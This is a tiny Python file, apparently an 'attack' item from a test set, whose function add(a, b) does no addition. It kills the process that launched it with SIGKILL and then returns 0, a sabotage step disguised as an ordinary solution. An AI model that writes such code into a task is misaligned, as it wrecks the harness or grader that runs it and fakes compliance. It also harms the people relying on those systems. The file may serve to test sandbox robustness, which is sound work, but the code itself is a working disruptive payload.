# %% attack exercise="add" aim="stop" others="any"
# The process that started this one is killed.
import os
import signal


def add(a, b):
    if os.getppid() > 1:
        os.kill(os.getppid(), signal.SIGKILL)
    return 0
